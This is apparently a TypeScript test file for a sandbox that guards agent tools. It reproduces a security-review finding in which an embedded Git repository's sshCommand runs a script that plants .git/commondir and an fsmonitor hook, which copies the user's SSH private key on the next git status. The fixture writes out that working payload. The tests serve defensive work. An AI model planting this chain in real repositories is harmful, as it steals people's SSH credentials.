// needs: bwrap, git
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { heldDirectories } from '../../packages/node/src/sandbox/held-directories.ts';
import { createHousehold, type Household } from './held-run.ts';

const NETWORK = { network: true, filesystem: { read: true, write: true, delete: true } };

/**
 * The first finding of the security review: a repository with another one among its files, whose configuration names a
 * program; that program makes `.git/commondir`, so that the person's own Git takes its configuration from the attacker.
 */
async function prepare(): Promise<Household> {
  const house = await createHousehold();
  const { at, lay, byHand } = house;
  lay({
    'attacker/work/README': 'Nice.\n',
    'attacker/work/emb/HEAD': 'ref: refs/heads/main\n',
    'attacker/work/emb/objects/.keep': '',
    'attacker/work/emb/refs/.keep': '',
    'attacker/work/emb/config': `[core]\nrepositoryformatversion = 0\nbare = true\nsshCommand = sh ./run.sh\n[remote "origin"]\nurl = ssh://host.invalid/x\n`,
    'attacker/work/emb/run.sh': `cd ../..\nmkdir -p .git/c/refs .git/c/objects\ncp -r .git/objects/. .git/c/objects\n
printf '[core]\\nrepositoryformatversion = 0\\nfsmonitor = "sh .git/c/steal.sh"\\n' > .git/c/config
echo 'cat ~/.ssh/id_rsa > ~/stolen 2>/dev/null' > .git/c/steal.sh\necho c > .git/commondir\necho ran\n`,
    'home/project/file': 'mine\n',
  });
  byHand('/usr/bin/git', ['init', '-q'], at('attacker/work'));
  byHand('/usr/bin/git', ['add', '-A'], at('attacker/work'));
  byHand('/usr/bin/git', ['commit', '-qm', 'x'], at('attacker/work'));
  byHand('/usr/bin/git', ['clone', '-q', '--bare', at('attacker/work'), at('attacker/evil.git')]);
  byHand('/usr/bin/git', ['init', '-q']);
  byHand('/usr/bin/git', ['add', 'file']);
  byHand('/usr/bin/git', ['commit', '-qm', 'mine']);
  return house;
}

async function attack(house: Household, { looked, released }: { looked: boolean; released: boolean }) {
  const { at, byTool, byHand } = house;
  const url = `file://${at('attacker/evil.git')}`;
  const settings = { effects: NETWORK, looked };
  const clone = await byTool('/usr/bin/git', ['clone', '-q', url, 'ev'], { ...settings, command: ['clone'] });
  if (released) await heldDirectories(at('home/.local/state/agent-tools')).release(at('home/project/ev'));
  const fetch = await byTool('/usr/bin/git', ['-C', 'ev/emb', 'fetch'], { ...settings, command: ['fetch'] });
  byHand('/usr/bin/git', ['status', '--short']);
  return { clone, fetch, isStolen: existsSync(at('home/stolen')) };
}

test('seen without the guards: two calls, and the next `git status` gives the key away', async () => {
  const house = await prepare();
  const { isStolen } = await attack(house, { looked: false, released: false });
  expect(isStolen).toBe(true);
  expect(readFileSync(house.at('home/stolen'), 'utf8')).toBe('SSHKEY');
});

test('the clone is held, so that Git does not find the repository among its files', async () => {
  const house = await prepare();
  const { clone, fetch, isStolen } = await attack(house, { looked: true, released: false });
  const ev = house.at('home/project/ev');
  expect(clone.report.planted).toStrictEqual({
    movedAside: [],
    changed: [],
    named: [
      { path: join(ev, 'emb'), runs: 'a repository among the files: git obeys the configuration in it' },
      {
        path: join(ev, 'emb/config'),
        runs: 'git runs or obeys what it names: core.sshcommand = "sh ./run.sh"',
      },
    ],
    held: [ev],
  });
  expect(clone.report.notes).toContain(`No tool runs in ${ev} until you have looked at it and released it.`);
  expect(fetch.out).toContain("cannot change to 'ev/emb'");
  expect(isStolen).toBe(false);
  const inside = house.byTool('/usr/bin/git', ['status'], { cwd: ev, command: ['status'] });
  await expect(inside).rejects.toThrow(`No tool runs in ${ev} until a person has looked at it`);
});

test('where the person let it, what the program planted is moved aside before Git obeys it', async () => {
  const house = await prepare();
  const { fetch, isStolen } = await attack(house, { looked: true, released: true });
  expect(fetch.out).toContain('ran');
  const commondir = house.at('home/project/.git/commondir');
  expect(fetch.report.planted).toStrictEqual({
    movedAside: [
      {
        path: commondir,
        movedTo: expect.stringMatching(/home\/\.local\/state\/agent-tools\/moved-aside\/[^/]+\/1\/commondir$/),
        why: 'git takes configuration and hooks from where it leads',
      },
    ],
    changed: [],
    named: [],
    held: [],
  });
  expect(isStolen).toBe(false);
});
